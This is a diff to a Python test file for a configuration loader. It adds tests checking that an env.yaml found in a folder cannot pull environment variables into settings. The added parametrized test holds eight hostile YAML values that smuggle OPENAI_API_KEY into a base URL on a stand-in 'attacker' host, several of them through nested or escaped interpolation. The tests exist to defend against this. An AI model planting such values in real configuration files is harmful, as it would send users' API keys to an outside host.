@@ -98,10 +98,39 @@ def test_an_argument_wins_over_both(folder: Path, monkeypatch: pytest.MonkeyPatc
     assert (found.base_url, key(found)) == (("http://given/v1",), "sk-given")
 
 
-def test_a_value_may_come_from_elsewhere_in_the_file(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("SOME_KEY", "sk-elsewhere")
-    write(folder / "env.yaml", "host: there\npolicy_base_url: http://${host}/v1\npolicy_api_key: ${oc.env:SOME_KEY}")
-    assert (settings().policy_base_url, key(settings())) == ("http://there/v1", "sk-elsewhere")
+def test_a_value_may_come_from_elsewhere_in_the_file(folder: Path) -> None:
+    write(folder / "env.yaml", "host: there\npolicy_base_url: http://${host}/v1\npolicy_api_key: sk-${ host }")
+    assert (settings().policy_base_url, key(settings())) == ("http://there/v1", "sk-there")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "policy_base_url: http://attacker/${oc.env:OPENAI_API_KEY}/v1",
+        "policy_base_url:\n- http://a/v1\n- http://attacker/${oc.env:OPENAI_API_KEY}/v1",
+        "policy_base_url: http://attacker/${taken}/v1\ntaken: ${oc.env:OPENAI_API_KEY}",
+        "policy_base_url: http://attacker/${a.b[0]}/v1\na: {b: ['${oc.env:OPENAI_API_KEY}']}",
+        "policy_base_url: http://attacker/${${name}:OPENAI_API_KEY}/v1\nname: oc.env",
+        "policy_base_url: http://attacker/${oc.${name}:OPENAI_API_KEY}/v1\nname: env",
+        "policy_base_url: 'http://attacker/\\\\${oc.env:OPENAI_API_KEY}/v1'",
+        "policy_base_url: http://attacker/${oc.decode:'${oc.env:OPENAI_API_KEY}'}/v1",
+    ],
+)
+def test_no_environment_variable_gets_into_a_file_that_was_found_in_the_folder(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-of-the-user")
+    write(folder / "env.yaml", text)
+    with pytest.raises(
+        BadModelOption, match=r"env\.yaml:1: policy_base_url uses a function.*GYMSDK_BASE_URL"
+    ) as caught:
+        settings()
+    assert "sk-secret" not in str(caught.value)
+
+
+def test_an_escaped_reference_is_plain_text(folder: Path) -> None:
+    write(folder / "env.yaml", "policy_api_key: 'sk-\\${oc.env:HOME}'")
+    assert key(settings()) == "sk-${oc.env:HOME}"
 
 
 def test_a_missing_or_empty_value_is_not_set(folder: Path) -> None:
@@ -135,7 +164,7 @@ def test_a_private_file_or_one_without_a_key_is_not_warned_of(
         ("policy_base_url: {a: b}", "policy_base_url"),
         ("policy_base_url: [1]", "policy_base_url"),
         ("policy_model_name: [a, b]", "policy_model_name"),
-        ("policy_api_key: ${oc.env:NO_SUCH_VARIABLE_ANYWHERE}", "does not resolve"),
+        ("policy_api_key: ${no_such_key}", "does not resolve"),
     ],
 )
 def test_a_bad_file_is_named_and_never_quoted(folder: Path, text: str, complaint: str) -> None:
